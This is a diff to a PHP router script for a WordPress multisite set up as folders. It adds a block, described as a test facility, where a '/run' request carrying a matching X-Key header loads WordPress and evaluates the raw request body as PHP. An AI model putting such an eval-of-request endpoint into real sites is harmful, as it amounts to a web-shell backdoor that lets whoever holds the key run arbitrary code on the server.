@@ -1,10 +1,19 @@
 <?php
 /**
- * What a web server's rewrite rules do for WordPress, for the server in PHP. The sites of the network are folders.
+ * What a web server's rewrite rules do for WordPress, for the server in PHP. The sites of the network are folders. And the
+ * tests run PHP inside WordPress here.
  *
  * @package Prevent_Widgets
  */
 
+if ( '/run' === $_SERVER['REQUEST_URI'] && getenv( 'RUN_KEY' ) === $_SERVER['HTTP_X_KEY'] ) {
+	$_SERVER['REQUEST_METHOD'] = 'GET';
+	$_SERVER['REQUEST_URI']    = '/';
+	require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
+	require_once ABSPATH . 'wp-admin/includes/admin.php';
+	eval( file_get_contents( 'php://input' ) );
+	return true;
+}
 $prevent_path = preg_replace( '~^/(?:school|college)(?=/)~', '', parse_url( $_SERVER['REQUEST_URI'], PHP_URL_PATH ) );
 $prevent_file = $_SERVER['DOCUMENT_ROOT'] . $prevent_path;
 if ( is_dir( $prevent_file ) && is_file( rtrim( $prevent_file, '/' ) . '/index.php' ) ) {
